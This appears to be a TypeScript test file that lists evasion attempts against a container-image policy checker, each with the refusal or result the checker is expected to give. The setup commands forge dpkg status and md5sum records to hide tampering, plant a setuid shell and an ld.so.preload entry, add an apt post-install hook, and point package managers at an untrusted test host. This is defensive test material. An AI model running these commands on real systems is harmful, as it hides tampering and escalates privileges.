import { attempt, brings, fails, type HostFacts, type HostileRow } from "./row.js";

const PROGRAM = "printf '#!/bin/sh\\necho evil\\n'";
const SITE = "/usr/lib/python3/dist-packages";
const [DATABASE, CHANGED, MADE] = ["package-database", "package-file-changed", "setup-made"] as const;

/** Makes /tmp/made.deb of a package that has one program, and removes everything else. */
const makeDeb = (name: string, version: string) =>
  [
    "mkdir -p /tmp/deb/DEBIAN /tmp/deb/usr/bin",
    `printf 'Package: ${name}\\nVersion: ${version}\\nArchitecture: all\\nMaintainer: Nobody <nobody@example.org>\\nDescription: a package of a test\\n' > /tmp/deb/DEBIAN/control`,
    `${PROGRAM} > /tmp/deb/usr/bin/${name} && chmod 755 /tmp/deb/usr/bin/${name}`,
    "dpkg-deb --build --root-owner-group /tmp/deb /tmp/made.deb > /dev/null && rm -r /tmp/deb",
  ].join("\n");

/** Ways round the package databases. */
const DATABASE_ROWS: readonly HostileRow[] = [
  fails(
    "dpkg-download",
    /unapproved/,
    "cd /tmp && apt-get update && apt-get download unapproved && dpkg -x unapproved_*.deb / && rm unapproved_*.deb",
  ),
  brings("dpkg-extract", MADE, makeDeb("unapproved", "1.0"), "dpkg -x /tmp/made.deb / && rm /tmp/made.deb"),
  brings("dpkg-install", DATABASE, makeDeb("unapproved", "1.0"), "dpkg -i /tmp/made.deb && rm /tmp/made.deb"),
  brings(
    "dpkg-status-cut",
    DATABASE,
    makeDeb("unapproved", "1.0"),
    "dpkg -i /tmp/made.deb && rm /tmp/made.deb",
    "sed -i '/^Package: unapproved$/,/^$/d' /var/lib/dpkg/status",
    "rm -f /var/lib/dpkg/info/unapproved.* /var/lib/dpkg/status-old",
  ),
  // As before, byte for byte: only what it has left behind shows that there was one.
  brings(
    "dpkg-status-restored",
    MADE,
    "cp -a /var/lib/dpkg /tmp/dpkg",
    makeDeb("unapproved", "1.0"),
    "dpkg -i /tmp/made.deb && rm /tmp/made.deb",
    "rm -rf /var/lib/dpkg && mv /tmp/dpkg /var/lib/dpkg",
  ),
  brings("dpkg-removed", DATABASE, `${PROGRAM} > /usr/bin/dpkg-removed`, "rm -rf /var/lib/dpkg"),
  brings(
    "dpkg-elsewhere",
    MADE,
    makeDeb("unapproved", "1.0"),
    "mkdir -p /tmp/db/info /tmp/db/updates && touch /tmp/db/status",
    "dpkg --admindir=/tmp/db -i /tmp/made.deb && rm -r /tmp/made.deb /tmp/db",
  ),
  brings(
    "dpkg-depends",
    DATABASE,
    makeDeb("unapproved", "1.0"),
    "dpkg -i /tmp/made.deb && rm /tmp/made.deb",
    "sed -i '/^Package: tool$/a Depends: unapproved' /var/lib/dpkg/status",
  ),
  brings(
    "dpkg-list",
    DATABASE,
    `${PROGRAM} > /usr/bin/dpkg-list`,
    "echo /usr/bin/dpkg-list >> /var/lib/dpkg/info/tool.list",
  ),
  brings("dpkg-forged", CHANGED, makeDeb("tool", "1.0"), "dpkg -i /tmp/made.deb && rm /tmp/made.deb"),
  brings("dpkg-newer", DATABASE, makeDeb("tool", "2.0"), "dpkg -i /tmp/made.deb && rm /tmp/made.deb"),
  brings("dpkg-edited", CHANGED, "echo 'echo evil' >> /usr/bin/tool"),
  brings(
    "dpkg-edited-with-sum",
    CHANGED,
    "echo 'echo evil' >> /usr/bin/tool && touch -r /usr/bin/apt-get /usr/bin/tool",
    "(cd / && md5sum usr/bin/tool) > /var/lib/dpkg/info/tool.md5sums",
  ),
  brings(
    "dpkg-diverted",
    DATABASE,
    "dpkg-divert --local --rename --add /usr/bin/tool",
    `${PROGRAM} > /usr/bin/tool && chmod 755 /usr/bin/tool`,
  ),
  brings(
    "dpkg-alternative",
    MADE,
    `${PROGRAM} > /opt/evil && chmod 755 /opt/evil`,
    "update-alternatives --install /usr/bin/pager pager /opt/evil 999",
  ),
];

/** Ways to bring something that no package database knows. */
const FILE_ROWS: readonly HostileRow[] = [
  brings(
    "static-binary",
    MADE,
    "printf '\\177ELF\\2\\1\\1' > /usr/local/bin/static-binary && chmod 755 /usr/local/bin/static-binary",
  ),
  brings("static-binary-hidden", MADE, "printf '\\177ELF\\2\\1\\1' > /var/lib/static-binary.txt"),
  brings("script-at-odd-place", MADE, `${PROGRAM} > '/usr/lib/ script' && chmod 755 '/usr/lib/ script'`),
  // While commands run /dev is a mount of the container: nothing there gets into the image.
  attempt(
    "below-dev",
    `${PROGRAM} > /dev/below-dev && chmod 755 /dev/below-dev`,
    "mkdir -p /dev/.x && cp /bin/sh /dev/.x/",
  ),
  {
    name: "below-dev-copied",
    image: {
      stages: [{ name: "s", parent: "python", setup: ["mkdir /opt/x && echo text > /opt/x/below-dev"] }],
      artifacts: [{ image: "s", path: "/opt/x", target: "/dev/x" }],
    },
    expect: { refused: MADE },
  },
  brings("setuid", MADE, "cp /bin/sh /usr/local/bin/setuid && chmod 4755 /usr/local/bin/setuid"),
  brings(
    "capability",
    MADE,
    "python3 -B -c \"import os, shutil, struct; shutil.copy('/bin/sh', '/opt/sh'); os.setxattr('/opt/sh', 'security.capability', struct.pack('<IIIII', 0x2000001, 1 << 7, 0, 0, 0))\"",
  ),
  brings("preload", MADE, "echo /opt/preload.so > /etc/ld.so.preload && printf '\\177ELF' > /opt/preload.so"),
  brings("python-module", MADE, `mkdir ${SITE}/left_pad && echo 'print(1)' > ${SITE}/left_pad/__init__.py`),
  brings("python-path-file", MADE, `echo 'import os' > ${SITE}/python-path-file.pth`),
  brings(
    "python-archive",
    MADE,
    "python3 -B -c \"import zipfile; zipfile.ZipFile('/opt/x.pyz', 'w').writestr('__main__.py', 'print(1)')\"",
  ),
  brings(
    "node-modules-renamed",
    MADE,
    'mkdir -p /opt/modules_/left-pad && echo \'{"name":"left-pad","version":"1.3.0"}\' > /opt/modules_/left-pad/package.json && echo 1 > /opt/modules_/left-pad/index.js',
  ),
  brings(
    "node-package-without-json",
    MADE,
    "mkdir -p /usr/lib/node_modules/left-pad && echo 1 > /usr/lib/node_modules/left-pad/index.js",
  ),
  brings(
    "java-archive",
    MADE,
    "python3 -B -c \"import zipfile; zipfile.ZipFile('/opt/app.jar', 'w').writestr('A.class', 'x')\"",
  ),
  {
    name: "stage-binary",
    image: {
      stages: [{ name: "s", parent: "python", setup: ["printf '\\177ELF' > /opt/stage-binary"] }],
      artifacts: [{ image: "s", path: "/opt/stage-binary", target: "/usr/local/bin/stage-binary" }],
    },
    expect: { refused: MADE },
  },
];

/** An image whose parent leaves something for it: the parent is refused. */
const parentLeaves = (name: string, ...commands: readonly string[]): HostileRow => ({
  name,
  image: { parent: `${name}-base`, "system-packages": ["other"] },
  more: { [`${name}-base`]: { setup: [commands.join("\n")] } },
  expect: { refused: MADE, image: `${name}-base` },
});

/** The same where a policy lets the parent pass: the image must be what it would be without that. */
const allowedParent = (name: string, ...commands: readonly string[]): HostileRow => ({
  ...parentLeaves(`allowed-${name}`, ...commands),
  image: {
    parent: `allowed-${name}-base`,
    "system-packages": ["other"],
    tests: [
      { file: "/usr/bin/other", contains: "good" },
      { file: "/escaped", exists: false },
    ],
  },
  expect: "built",
});

/** Ways to bring in something that no list approves. policies/images.yaml lets what `setup` of `allowed-…` makes pass. */
export const packageRows = ({ url }: HostFacts): readonly HostileRow[] => {
  const source = `echo 'deb [trusted=yes] ${url}/evil ./' | tee /etc/apt/sources.list /etc/apt/sources.list.d/evil.list`;
  const hook = [
    "printf '#!/bin/sh\\nmkdir -p /usr/bin; echo evil > /escaped\\n' > /etc/apt/hook && chmod 755 /etc/apt/hook",
    "echo 'DPkg::Post-Invoke { \"/etc/apt/hook || true\"; };' > /etc/apt/apt.conf.d/99hook",
  ];
  return [
    ...DATABASE_ROWS,
    ...FILE_ROWS,
    parentLeaves("parent-source", source),
    parentLeaves("parent-hook", ...hook),
    parentLeaves("parent-npmrc", `echo 'registry=${url}/npm' > /root/.npmrc`),
    parentLeaves("parent-pip", `printf '[global]\\nindex-url = ${url}/pip\\n' > /etc/pip.conf`),
    allowedParent("source", source),
    allowedParent(
      "hook",
      "echo 'DPkg::Post-Invoke { \"echo evil > /escaped || true\"; };' > /etc/apt/apt.conf.d/99hook",
    ),
    attempt(
      "fetched",
      `python3 -B -c "import urllib.request; urllib.request.urlretrieve('${url}/fetched', '/escaped')" 2>/dev/null`,
    ),
  ];
};
